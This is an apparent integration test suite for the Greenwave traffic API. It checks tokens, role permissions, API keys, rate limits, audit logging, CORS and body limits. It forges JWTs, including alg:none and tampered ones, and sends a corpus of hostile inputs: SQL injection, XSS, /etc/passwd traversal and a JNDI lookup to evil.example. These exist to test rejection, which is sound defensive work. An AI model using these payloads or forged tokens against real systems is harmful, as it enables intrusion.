package io.greenwave.it;

import static io.greenwave.it.NetworkAndReadingsIT.assertProblem;
import static io.greenwave.it.NetworkAndReadingsIT.intersection;
import static io.greenwave.it.NetworkAndReadingsIT.reading;
import static io.greenwave.it.NetworkAndReadingsIT.unique;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import io.greenwave.it.Api.Reply;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.net.URL;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Date;
import java.util.List;
import java.util.Map;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Every rule of Greenwave's security, checked from outside against the packaged WAR: who may call
 * what (401 vs 403, each role against each endpoint class), forged tokens, API keys and their
 * revocation, rate limits with their headers and reset, login throttling, the audit trail, CORS,
 * security headers, body size limits, and a corpus of hostile requests.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class SecurityIT {
  /** The token secret of the IT deployments (arquillian.xml), used to forge tokens. */
  static final byte[] SECRET =
      "it-token-secret-it-token-secret-0123456789".getBytes(StandardCharsets.UTF_8);

  static final String PASSWORD = "a-long-test-password-1";

  @Deployment(testable = false)
  static WebArchive war() {
    return Deployments.packagedWar();
  }

  @ArquillianResource URL base;
  Api admin;
  Api anonymous;

  @BeforeEach
  void clients() {
    admin = Api.asAdmin(base);
    anonymous = new Api(base);
  }

  // ---------------------------------------------------------------- helpers

  Api user(String role) {
    String name = unique(role);
    Reply created =
        admin.postJson(
            "/api/users",
            "{\"username\":\"%s\",\"password\":\"%s\",\"roles\":[\"%s\"]}"
                .formatted(name, PASSWORD, role));
    assertEquals(201, created.status(), created::toString);
    return anonymous.withToken(anonymous.token(name, PASSWORD));
  }

  JsonObject createKey(String body) {
    Reply r = admin.postJson("/api/keys", body);
    assertEquals(201, r.status(), r::toString);
    return r.json();
  }

  static String forge(JWSAlgorithm alg, byte[] secret, JWTClaimsSet claims) throws Exception {
    SignedJWT jwt = new SignedJWT(new JWSHeader(alg), claims);
    jwt.sign(new MACSigner(secret));
    return jwt.serialize();
  }

  static JWTClaimsSet.Builder adminClaims() {
    Instant now = Instant.now();
    return new JWTClaimsSet.Builder()
        .subject("admin")
        .issuer("greenwave")
        .audience("greenwave-api")
        .issueTime(Date.from(now))
        .expirationTime(Date.from(now.plusSeconds(600)))
        .jwtID("forged")
        .claim("roles", List.of("admin"));
  }

  static void assertUnauthorized(Reply r) {
    assertProblem(r, 401, null);
  }

  // ---------------------------------------------------------------- tokens

  @Test
  void tokenCarriesSubjectRolesIssuerAudienceAndOneHourLifetime() throws Exception {
    Reply r =
        anonymous.postJson(
            "/api/auth/token",
            "{\"username\":\"admin\",\"password\":\"" + Api.ADMIN_PASSWORD + "\"}");
    assertEquals(200, r.status(), r::toString);
    assertEquals("Bearer", r.json().getString("token_type"));
    assertEquals(3600, r.json().getInt("expires_in"));
    SignedJWT jwt = SignedJWT.parse(r.json().getString("access_token"));
    assertEquals(JWSAlgorithm.HS256, jwt.getHeader().getAlgorithm());
    JWTClaimsSet claims = jwt.getJWTClaimsSet();
    assertEquals("admin", claims.getSubject());
    assertEquals("greenwave", claims.getIssuer());
    assertEquals(List.of("greenwave-api"), claims.getAudience());
    assertEquals(List.of("admin"), claims.getStringListClaim("roles"));
    assertEquals(
        3600, (claims.getExpirationTime().getTime() - claims.getIssueTime().getTime()) / 1000);
  }

  @Test
  void wrongCredentialsAre401WithoutTellingWhichPart() {
    Reply unknown =
        anonymous.postJson(
            "/api/auth/token", "{\"username\":\"nobody-here\",\"password\":\"whatever-pw\"}");
    Reply wrong =
        anonymous.postJson("/api/auth/token", "{\"username\":\"admin\",\"password\":\"nope\"}");
    assertUnauthorized(unknown);
    assertUnauthorized(wrong);
    assertEquals(unknown.json().getString("detail"), wrong.json().getString("detail"));
    assertProblem(anonymous.postJson("/api/auth/token", "{\"password\":\"x\"}"), 400, "username");
    assertProblem(
        anonymous.postJson("/api/auth/token", "{\"username\":\"admin\"}"), 400, "password");
    assertUnauthorized(anonymous.postJson("/api/auth/token", "{\"apiKey\":\"gw_00000000_nope\"}"));
  }

  @Test
  void forgedExpiredAndForeignTokensAreAll401() throws Exception {
    String good = forge(JWSAlgorithm.HS256, SECRET, adminClaims().build());
    assertEquals(200, anonymous.withToken(good).get("/api/users").status(), "control case");

    byte[] long64 = new byte[64];
    System.arraycopy(SECRET, 0, long64, 0, SECRET.length);
    byte[] otherKey = "some-other-secret-some-other-secret-xyz".getBytes(StandardCharsets.UTF_8);
    Instant past = Instant.now().minus(2, ChronoUnit.HOURS);
    String[] parts = admin.token("admin", Api.ADMIN_PASSWORD).split("\\.");
    String noneHeader = b64("{\"alg\":\"none\",\"typ\":\"JWT\"}");
    String tamperedPayload =
        b64(
            new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8)
                .replace("\"admin\"", "\"root\""));
    List<String> forged =
        List.of(
            new PlainJWT(adminClaims().build()).serialize(),
            noneHeader + "." + parts[1] + ".",
            noneHeader + "." + parts[1] + "." + parts[2],
            forge(JWSAlgorithm.HS512, long64, adminClaims().build()),
            forge(JWSAlgorithm.HS384, long64, adminClaims().build()),
            forge(JWSAlgorithm.HS256, otherKey, adminClaims().build()),
            parts[0] + "." + tamperedPayload + "." + parts[2],
            forge(
                JWSAlgorithm.HS256,
                SECRET,
                adminClaims()
                    .issueTime(Date.from(past))
                    .expirationTime(Date.from(past.plusSeconds(60)))
                    .build()),
            forge(JWSAlgorithm.HS256, SECRET, adminClaims().audience("another-api").build()),
            forge(JWSAlgorithm.HS256, SECRET, adminClaims().issuer("evil").build()),
            forge(JWSAlgorithm.HS256, SECRET, adminClaims().subject("ghost-user").build()),
            forge(JWSAlgorithm.HS256, SECRET, adminClaims().expirationTime(null).build()),
            "not-a-token",
            "a.b.c",
            "");
    for (String token : forged) {
      Reply r = anonymous.withToken(token).get("/api/users");
      assertUnauthorized(r);
      assertNotNull(r.header("WWW-Authenticate"), r::toString);
    }
    assertUnauthorized(
        anonymous.request("GET", "/api/users", null, null, "Authorization", "Basic YWRtaW46eA=="));
  }

  static String b64(String s) {
    return Base64.getUrlEncoder()
        .withoutPadding()
        .encodeToString(s.getBytes(StandardCharsets.UTF_8));
  }

  // ---------------------------------------------------------------- who may do what

  @Test
  void anonymousMayReadOnlyHealthOpenApiAndAskForTokens() {
    assertEquals(200, anonymous.get("/health/ready").status());
    assertEquals(200, anonymous.get("/openapi").status());
    assertUnauthorized(
        anonymous.postJson("/api/auth/token", "{\"username\":\"admin\",\"password\":\"x\"}"));
    for (String path :
        List.of(
            "/api/intersections",
            "/api/intersections/iso-1",
            "/api/intersections/iso-1/readings",
            "/api/links",
            "/api/users",
            "/api/keys",
            "/api/audit")) {
      Reply r = anonymous.get(path);
      assertUnauthorized(r);
      assertEquals("Bearer realm=\"greenwave\"", r.header("WWW-Authenticate"), path);
    }
    assertUnauthorized(anonymous.postJson("/api/intersections", intersection(unique("anon"), "")));
    assertUnauthorized(anonymous.delete("/api/intersections/iso-1"));
  }

  @Test
  void eachRoleAgainstEachEndpointClass() {
    Api viewer = user("viewer");
    Api operator = user("operator");
    Api deviceUser = user("device");
    Api deviceKey =
        anonymous.withApiKey(createKey("{\"name\":\"matrix device\"}").getString("key"));
    Map<String, Api> callers =
        Map.of(
            "admin", admin,
            "operator", operator,
            "viewer", viewer,
            "device", deviceUser,
            "device-key", deviceKey);
    String target = unique("matrix");
    assertEquals(201, admin.postJson("/api/intersections", intersection(target, "")).status());
    String reading = "[" + reading("N_T", OffsetDateTime.parse("2026-11-20T08:00:00Z"), 10) + "]";
    for (Map.Entry<String, Api> c : callers.entrySet()) {
      String role = c.getKey().replace("-key", "");
      Api api = c.getValue();
      boolean admins = role.equals("admin");
      boolean edits = admins || role.equals("operator");
      boolean ingests = edits || role.equals("device");
      String why = c.getKey();
      // read the network and readings: every role
      assertEquals(200, api.get("/api/intersections").status(), why);
      assertEquals(200, api.get("/api/links").status(), why);
      assertEquals(200, api.get("/api/intersections/" + target + "/readings").status(), why);
      // edit intersections: operator and admin
      Reply create = api.postJson("/api/intersections", intersection(unique("m"), ""));
      assertEquals(edits ? 201 : 403, create.status(), why + " " + create);
      // submit readings: device, operator, admin
      Reply ingest = api.postJson("/api/intersections/" + target + "/readings", reading);
      assertEquals(ingests ? 200 : 403, ingest.status(), why + " " + ingest);
      // users, keys, audit: admin only
      for (String path : List.of("/api/users", "/api/keys", "/api/audit")) {
        Reply r = api.get(path);
        assertEquals(admins ? 200 : 403, r.status(), why + " " + path);
        if (!admins) {
          assertProblem(r, 403, null);
        }
      }
      Reply newKey = api.postJson("/api/keys", "{\"name\":\"x\"}");
      assertEquals(admins ? 201 : 403, newKey.status(), why);
    }
  }

  // ---------------------------------------------------------------- API keys

  @Test
  void apiKeyIsShownOnceListedByPrefixAndRevokedAtOnce() {
    JsonObject created = createKey("{\"name\":\"field controller 7\",\"roles\":[\"device\"]}");
    String key = created.getString("key");
    String prefix = created.getJsonObject("apiKey").getString("prefix");
    assertTrue(key.startsWith("gw_" + prefix + "_"), key);

    Reply list = admin.get("/api/keys");
    assertTrue(list.body().contains(prefix));
    assertFalse(list.body().contains(key), "the key itself is never listed");
    assertFalse(admin.get("/api/keys/" + prefix).body().contains(key));

    Api byHeader = anonymous.withApiKey(key);
    assertEquals(200, byHeader.get("/api/intersections").status());
    Reply token = anonymous.postJson("/api/auth/token", "{\"apiKey\":\"" + key + "\"}");
    assertEquals(200, token.status(), token::toString);
    assertEquals("key:" + prefix, token.json().getString("subject"));
    Api byToken = anonymous.withToken(token.json().getString("access_token"));
    assertEquals(200, byToken.get("/api/intersections").status());

    Reply revoked = admin.delete("/api/keys/" + prefix);
    assertEquals(200, revoked.status(), revoked::toString);
    assertNotNull(revoked.json().getString("revokedAt"));
    assertUnauthorized(byHeader.get("/api/intersections"));
    assertUnauthorized(byToken.get("/api/intersections"));
    assertUnauthorized(anonymous.postJson("/api/auth/token", "{\"apiKey\":\"" + key + "\"}"));
    assertProblem(admin.delete("/api/keys/ffffffff"), 404, null);
  }

  @Test
  void keysNeverGetAdminAndBadKeyRequestsNameTheField() {
    assertProblem(
        admin.postJson("/api/keys", "{\"name\":\"k\",\"roles\":[\"admin\"]}"), 400, "roles");
    assertProblem(
        admin.postJson("/api/keys", "{\"name\":\"k\",\"roles\":[\"root\"]}"), 400, "roles");
    assertProblem(admin.postJson("/api/keys", "{\"roles\":[\"device\"]}"), 400, "name");
    assertProblem(
        admin.postJson("/api/keys", "{\"name\":\"k\",\"rateLimit\":0}"), 400, "rateLimit");
    assertProblem(
        admin.postJson("/api/keys", "{\"name\":\"k\",\"rateLimit\":\"many\"}"), 400, "rateLimit");
  }

  // ---------------------------------------------------------------- rate limits

  @Test
  void rateLimitedClientGets429WithHeadersAndIsServedAgainAfterReset() throws Exception {
    JsonObject created = createKey("{\"name\":\"throttled\",\"rateLimit\":5}");
    Api device = anonymous.withApiKey(created.getString("key"));
    for (int i = 4; i >= 0; i--) {
      Reply r = device.get("/api/intersections/iso-1");
      assertEquals(200, r.status(), r::toString);
      assertEquals("5", r.header("X-RateLimit-Limit"));
      assertEquals(Integer.toString(i), r.header("X-RateLimit-Remaining"));
      long reset = Long.parseLong(r.header("X-RateLimit-Reset"));
      assertTrue(reset >= 0 && reset <= 10, r.header("X-RateLimit-Reset"));
    }
    Reply refused = device.get("/api/intersections/iso-1");
    assertProblem(refused, 429, null);
    assertEquals("0", refused.header("X-RateLimit-Remaining"));
    long retryAfter = Long.parseLong(refused.header("Retry-After"));
    assertTrue(retryAfter >= 1 && retryAfter <= 10, refused.header("Retry-After"));
    // other clients are not affected
    assertEquals(200, admin.get("/api/intersections/iso-1").status());

    Thread.sleep(retryAfter * 1000 + 500);
    Reply again = device.get("/api/intersections/iso-1");
    assertEquals(200, again.status(), again::toString);
    assertEquals("4", again.header("X-RateLimit-Remaining"));

    String prefix = created.getJsonObject("apiKey").getString("prefix");
    Reply raised = admin.put("/api/keys/" + prefix + "/rate-limit", "{\"rateLimit\":1000}", null);
    assertEquals(200, raised.status(), raised::toString);
    assertEquals("1000", device.get("/api/intersections/iso-1").header("X-RateLimit-Limit"));
  }

  @Test
  void repeatedWrongPasswordsLockTheUsernameOut() {
    String name = unique("guessed");
    admin.postJson(
        "/api/users",
        "{\"username\":\"%s\",\"password\":\"%s\",\"roles\":[\"viewer\"]}"
            .formatted(name, PASSWORD));
    String wrong = "{\"username\":\"" + name + "\",\"password\":\"guess-%d\"}";
    for (int i = 0; i < 5; i++) {
      assertUnauthorized(anonymous.postJson("/api/auth/token", wrong.formatted(i)));
    }
    Reply locked =
        anonymous.postJson(
            "/api/auth/token", "{\"username\":\"" + name + "\",\"password\":\"" + PASSWORD + "\"}");
    assertProblem(locked, 429, null);
    assertTrue(Long.parseLong(locked.header("Retry-After")) > 0);
  }

  // ---------------------------------------------------------------- users

  @Test
  void usersAreAdministeredAndChangesTakeEffectAtOnce() {
    String name = unique("ursula");
    Reply created =
        admin.postJson(
            "/api/users",
            "{\"username\":\"%s\",\"password\":\"%s\",\"roles\":[\"viewer\"]}"
                .formatted(name, PASSWORD));
    assertEquals(201, created.status());
    assertFalse(created.body().contains(PASSWORD) || created.body().contains("pbkdf2"));
    assertProblem(
        admin.postJson(
            "/api/users",
            "{\"username\":\"%s\",\"password\":\"%s\",\"roles\":[\"viewer\"]}"
                .formatted(name, PASSWORD)),
        409,
        "username");
    assertProblem(
        admin.postJson(
            "/api/users", "{\"username\":\"shorty\",\"password\":\"x\",\"roles\":[\"viewer\"]}"),
        400,
        "password");
    assertProblem(
        admin.postJson(
            "/api/users",
            "{\"username\":\"x y\",\"password\":\"%s\",\"roles\":[\"viewer\"]}"
                .formatted(PASSWORD)),
        400,
        "username");
    assertProblem(
        admin.postJson(
            "/api/users",
            "{\"username\":\"rolf\",\"password\":\"%s\",\"roles\":[\"king\"]}".formatted(PASSWORD)),
        400,
        "roles");

    Api ursula = anonymous.withToken(anonymous.token(name, PASSWORD));
    assertEquals(
        403, ursula.postJson("/api/intersections", intersection(unique("u"), "")).status());
    Reply promoted = admin.put("/api/users/" + name + "/roles", "{\"roles\":[\"operator\"]}", null);
    assertEquals(200, promoted.status(), promoted::toString);
    assertEquals(
        201, ursula.postJson("/api/intersections", intersection(unique("u"), "")).status());

    assertEquals(
        204,
        admin
            .put("/api/users/" + name + "/password", "{\"password\":\"another-password-2\"}", null)
            .status());
    assertEquals(
        200,
        anonymous
            .withToken(anonymous.token(name, "another-password-2"))
            .get("/api/intersections")
            .status());

    assertEquals(200, admin.postJson("/api/users/" + name + "/disable", "").status());
    assertUnauthorized(ursula.get("/api/intersections"));
    assertEquals(200, admin.postJson("/api/users/" + name + "/enable", "").status());
    assertEquals(200, ursula.get("/api/intersections").status());

    assertProblem(admin.postJson("/api/users/admin/disable", ""), 409, null);
    assertProblem(admin.put("/api/users/admin/roles", "{\"roles\":[\"viewer\"]}", null), 409, null);
    assertProblem(admin.get("/api/users/nobody-at-all"), 404, null);
  }

  // ---------------------------------------------------------------- audit

  @Test
  void stateChangesAreAuditedWithWhoWhatWhenWhereAndOutcome() {
    String name = unique("audited");
    admin.postJson(
        "/api/users",
        "{\"username\":\"%s\",\"password\":\"%s\",\"roles\":[\"operator\"]}"
            .formatted(name, PASSWORD));
    Api operator = anonymous.withToken(anonymous.token(name, PASSWORD));
    String id = unique("aud");
    assertEquals(201, operator.postJson("/api/intersections", intersection(id, "")).status());
    Reply read = operator.get("/api/intersections/" + id);
    String body = read.body().replace("\"name\":\"Test " + id + "\"", "\"name\":\"Renamed\"");
    assertEquals(200, operator.put("/api/intersections/" + id, body, null).status());
    assertEquals(204, operator.delete("/api/intersections/" + id + "?force=true").status());
    Api viewer = user("viewer");
    viewer.postJson("/api/intersections", intersection(unique("no"), ""));
    JsonObject key = createKey("{\"name\":\"audited key\"}");
    String prefix = key.getJsonObject("apiKey").getString("prefix");

    List<JsonObject> mine =
        admin
            .get("/api/audit?actor=" + name)
            .json()
            .getJsonArray("entries")
            .getValuesAs(JsonObject.class);
    assertEquals(
        List.of("DELETE", "PUT", "POST"), mine.stream().map(e -> e.getString("action")).toList());
    for (JsonObject e : mine) {
      assertEquals(
          "/api/intersections" + (e.getString("action").equals("POST") ? "" : "/" + id),
          e.getString("target"));
      assertEquals("success", e.getString("outcome"));
      assertTrue(e.containsKey("occurredAt") && e.containsKey("clientAddress"), e::toString);
    }
    JsonObject denied =
        admin
            .get("/api/audit?outcome=denied&target=/api/intersections&limit=1")
            .json()
            .getJsonArray("entries")
            .getJsonObject(0);
    assertEquals(403, denied.getInt("status"));
    assertTrue(denied.getString("actor").startsWith("viewer-"), denied::toString);
    JsonObject keyEntry =
        admin
            .get("/api/audit?target=/api/keys&action=POST&limit=1")
            .json()
            .getJsonArray("entries")
            .getJsonObject(0);
    assertEquals("admin", keyEntry.getString("actor"));
    assertEquals("created key " + prefix, keyEntry.getString("detail"));
    assertEquals(201, keyEntry.getInt("status"));

    // model deploy and rollback are audited like every other change, refused ones included
    Reply deploy = admin.postJson("/api/ml/deploy/no-such-model", "{}");
    Reply rollback = admin.postJson("/api/ml/rollback/no-such-intersection", "{}");
    for (Reply attempt : List.of(deploy, rollback)) {
      String path = attempt.raw().uri().getRawPath();
      JsonObject entry =
          admin
              .get("/api/audit?actor=admin&target=" + path)
              .json()
              .getJsonArray("entries")
              .getJsonObject(0);
      assertEquals("POST", entry.getString("action"));
      assertEquals(attempt.status(), entry.getInt("status"), attempt::toString);
      assertEquals(attempt.status() < 400 ? "success" : "rejected", entry.getString("outcome"));
    }

    JsonObject page = admin.get("/api/audit?limit=2").json();
    assertEquals(2, page.getJsonArray("entries").size());
    assertEquals(2, page.getInt("nextOffset"));
    assertProblem(admin.get("/api/audit?limit=0"), 400, "limit");
    assertProblem(admin.get("/api/audit?outcome=maybe"), 400, "outcome");
    assertProblem(admin.get("/api/audit?from=yesterday"), 400, "from");
    // never editable through the API
    long id1 = page.getJsonArray("entries").getJsonObject(0).getJsonNumber("id").longValue();
    assertProblem(admin.delete("/api/audit"), 405, null);
    assertProblem(admin.postJson("/api/audit", "{}"), 405, null);
    assertProblem(admin.put("/api/audit/" + id1, "{}", null), 404, null);
    assertProblem(admin.delete("/api/audit/" + id1), 404, null);
  }

  // ---------------------------------------------------------------- hardening

  @Test
  void responsesCarrySecurityHeadersAndCorsFollowsTheAllowList() {
    Reply r = admin.get("/api/intersections");
    assertEquals("nosniff", r.header("X-Content-Type-Options"));
    assertEquals("DENY", r.header("X-Frame-Options"));
    assertNotNull(r.header("Referrer-Policy"));
    assertTrue(r.header("Content-Security-Policy").contains("frame-ancestors 'none'"));

    Reply allowed =
        anonymous.request(
            "OPTIONS",
            "/api/intersections",
            null,
            null,
            "Origin",
            "https://console.example.org",
            "Access-Control-Request-Method",
            "POST",
            "Access-Control-Request-Headers",
            "Authorization, Content-Type");
    assertEquals(204, allowed.status(), allowed::toString);
    assertEquals("https://console.example.org", allowed.header("Access-Control-Allow-Origin"));
    assertTrue(allowed.header("Access-Control-Allow-Headers").contains("Authorization"));
    Reply foreign =
        anonymous.request(
            "OPTIONS",
            "/api/intersections",
            null,
            null,
            "Origin",
            "https://evil.example.com",
            "Access-Control-Request-Method",
            "DELETE");
    assertProblem(foreign, 403, null);
    assertEquals(null, foreign.header("Access-Control-Allow-Origin"));
    Reply simple =
        admin.request(
            "GET", "/api/intersections", null, null, "Origin", "https://console.example.org");
    assertEquals("https://console.example.org", simple.header("Access-Control-Allow-Origin"));
    assertTrue(simple.header("Access-Control-Expose-Headers").contains("X-RateLimit-Remaining"));
  }

  @Test
  void oversizedBodiesAre413ProblemsWhetherDeclaredOrChunked() {
    byte[] big = new byte[5 * 1024 * 1024];
    java.util.Arrays.fill(big, (byte) ' ');
    big[0] = '[';
    big[big.length - 1] = ']';
    assertProblem(
        admin.postBytes("/api/intersections/iso-1/readings", "application/json", big), 413, null);
    Reply chunked =
        admin.streamed("POST", "/api/intersections/iso-1/readings", "application/json", big);
    assertProblem(chunked, 413, null);
    assertEquals(
        413, admin.streamed("POST", "/api/intersections/iso-1/readings", "text/csv", big).status());
  }

  // ---------------------------------------------------------------- hostile corpus

  @Test
  void hostileRequestsAreAll4xxProblemsAndChangeNothing() {
    String target = unique("hostile");
    assertEquals(201, admin.postJson("/api/intersections", intersection(target, "")).status());
    String before = snapshot(target);
    List<HostileCase> corpus = HostileCorpus.build(target);
    assertTrue(corpus.size() >= 100, "corpus size " + corpus.size());
    List<String> failures = new ArrayList<>();
    for (HostileCase c : corpus) {
      Reply r = admin.request(c.method(), c.path(), c.contentType(), c.body());
      boolean ok =
          r.status() >= 400
              && r.status() < 500
              && (r.contentType().startsWith("application/problem+json")
                  || c.rejectedByContainer() && r.body().isEmpty())
              && !r.body().contains("Exception")
              && !r.body().contains("\tat ")
              && !r.body().contains("java.");
      if (!ok) {
        failures.add(
            c.describe()
                + " -> "
                + r.status()
                + " "
                + r.contentType()
                + " "
                + abbreviate(r.body()));
      }
    }
    assertEquals(List.of(), failures, failures.size() + " of " + corpus.size() + " failed");
    assertEquals(before, snapshot(target), "hostile requests changed data");
  }

  static String abbreviate(String s) {
    return s.length() > 300 ? s.substring(0, 300) + "..." : s;
  }

  String snapshot(String target) {
    return String.join(
        "\n",
        admin.get("/api/intersections").body(),
        admin.get("/api/links").body(),
        admin.get("/api/users").body(),
        admin.get("/api/keys").body(),
        admin.get("/api/intersections/" + target + "/readings?limit=10000").body());
  }

  /** One hostile request. */
  record HostileCase(String method, String path, String contentType, byte[] body) {
    /**
     * Encoded slashes and NUL bytes in a path are refused by the HTTP layer (Grizzly) with an empty
     * 400 before Greenwave sees the request: still 4xx and nothing leaks, but no problem body.
     */
    boolean rejectedByContainer() {
      String p = path.contains("?") ? path.substring(0, path.indexOf('?')) : path;
      return p.contains("%2F") || p.contains("%00");
    }

    String describe() {
      String text = body == null ? "" : new String(body, StandardCharsets.UTF_8);
      return method + " " + path + " [" + contentType + "] " + abbreviate(text);
    }
  }

  /** Malformed, oversized and injection-laden requests against every endpoint class. */
  static final class HostileCorpus {
    static final List<String> INJECTIONS =
        List.of(
            "' OR '1'='1",
            "1; DROP TABLE intersection;--",
            "\" OR \"\"=\"",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "${jndi:ldap://evil.example/a}",
            "#{7*7}",
            "%00",
            "\u0000",
            "A".repeat(5000),
            "\u202e\u0645\u0631\u062d\u0628\u0627",
            "99999999999999999999999999");

    static List<HostileCase> build(String target) {
      List<HostileCase> cases = new ArrayList<>();
      for (String evil : INJECTIONS) {
        String p = enc(evil);
        cases.add(get("/api/intersections/" + p));
        cases.add(get("/api/links/" + p));
        cases.add(get("/api/users/" + p));
        cases.add(get("/api/keys/" + p));
        cases.add(new HostileCase("DELETE", "/api/keys/" + p, null, null));
        cases.add(get("/api/intersections/" + target + "/readings?from=" + p));
        cases.add(get("/api/intersections/" + target + "/readings?resolution=" + p));
        if (!evil.isBlank() && !evil.equals("\u0000")) {
          // JAX-RS reads a blank or control-only int parameter as absent (the default applies)
          cases.add(get("/api/intersections/" + target + "/readings?limit=" + p));
        }
        cases.add(get("/api/audit?outcome=" + p));
        cases.add(get("/api/audit?to=" + p));
        cases.add(post("/api/intersections/" + target + "/readings?mode=" + p, "[]"));
        cases.add(
            post(
                "/api/users",
                Json.createObjectBuilder()
                    .add("username", evil)
                    .add("password", "short")
                    .add("roles", Json.createArrayBuilder().add("viewer"))
                    .build()
                    .toString()));
        cases.add(
            post(
                "/api/keys",
                Json.createObjectBuilder()
                    .add("name", "k")
                    .add("roles", Json.createArrayBuilder().add(evil))
                    .build()
                    .toString()));
        cases.add(
            csv(
                "/api/intersections/" + target + "/readings",
                "laneGroup,intervalStart,intervalSeconds,vehicleCount\n"
                    + csvField(evil)
                    + ",2026-11-20T08:00:00Z,900,10\n"));
        if (!evil.matches("[A-Za-z0-9][A-Za-z0-9_.-]{0,63}")) {
          cases.add(post("/api/intersections", intersection(evil.replace("\"", "\\\""), "")));
        }
      }
      String readings = "/api/intersections/" + target + "/readings";
      for (String body :
          List.of(
              "",
              "{",
              "[",
              "null",
              "42",
              "\"text\"",
              "{\"id\":123}",
              "{\"id\":[],\"name\":{}}",
              "{\"timing\":{\"minGreen\":1e999}}",
              "{\"timing\":{\"minGreen\":\"five\"}}",
              "{\"location\":{\"latitude\":99999999999999999999999}}",
              "[".repeat(5000) + "]".repeat(5000),
              "{\"id\":\"x\",\"id\":\"y\"}",
              "\uFEFF{\"id\":\"bom\"}")) {
        cases.add(post("/api/intersections", body));
        cases.add(post(readings, body));
        cases.add(post("/api/users", body));
        cases.add(post("/api/keys", body));
      }
      for (String reading :
          List.of(
              "[{\"laneGroup\":\"N_T\",\"intervalStart\":\"2026-11-20T08:00:00Z\",\"vehicleCount\":-1}]",
              "[{\"laneGroup\":\"N_T\",\"intervalStart\":\"2026-11-20T08:00:00Z\",\"vehicleCount\":1e30}]",
              "[{\"laneGroup\":\"N_T\",\"intervalStart\":\"not a time\",\"vehicleCount\":1}]",
              "[{\"laneGroup\":\"ZZ\",\"intervalStart\":\"2026-11-20T08:00:00Z\",\"vehicleCount\":1}]",
              "[{\"laneGroup\":\"N_T\",\"intervalStart\":\"2026-11-20T08:00:00Z\",\"vehicleCount\":\"ten\"}]",
              "[{\"laneGroup\":\"N_T\",\"intervalStart\":\"2026-11-20T08:00:00Z\",\"vehicleCount\":1,\"occupancy\":250}]")) {
        cases.add(post(readings, reading));
      }
      byte[] invalidUtf8 = {
        '[', '{', '"', 'l', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}', ']'
      };
      cases.add(new HostileCase("POST", readings, "application/json", invalidUtf8));
      cases.add(new HostileCase("POST", readings, "text/csv", invalidUtf8));
      cases.add(new HostileCase("POST", "/api/intersections", "application/json", invalidUtf8));
      cases.add(new HostileCase("POST", "/api/users", "application/json", invalidUtf8));
      cases.add(new HostileCase("POST", "/api/intersections", "text/plain", bytes("{}")));
      cases.add(new HostileCase("POST", "/api/intersections", "application/xml", bytes("<a/>")));
      cases.add(
          new HostileCase(
              "POST", "/api/keys", "application/x-www-form-urlencoded", bytes("name=x")));
      cases.add(new HostileCase("PATCH", "/api/intersections", "application/json", bytes("{}")));
      cases.add(new HostileCase("PUT", "/api/intersections", "application/json", bytes("{}")));
      cases.add(new HostileCase("DELETE", "/api/users/admin", null, null));
      cases.add(
          new HostileCase(
              "PUT",
              "/api/intersections/" + target,
              "application/json",
              bytes("{\"id\":\"" + target + "\"}")));
      byte[] huge = new byte[4 * 1024 * 1024 + 10];
      java.util.Arrays.fill(huge, (byte) '1');
      cases.add(new HostileCase("POST", readings, "application/json", huge));
      cases.add(new HostileCase("POST", readings, "text/csv", huge));
      return cases;
    }

    static HostileCase get(String path) {
      return new HostileCase("GET", path, null, null);
    }

    static HostileCase post(String path, String json) {
      return new HostileCase("POST", path, "application/json", bytes(json));
    }

    static HostileCase csv(String path, String text) {
      return new HostileCase("POST", path, "text/csv", bytes(text));
    }

    static byte[] bytes(String s) {
      return s.getBytes(StandardCharsets.UTF_8);
    }

    static String enc(String s) {
      return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static String csvField(String s) {
      return "\"" + s.replace("\"", "\"\"") + "\"";
    }
  }
}
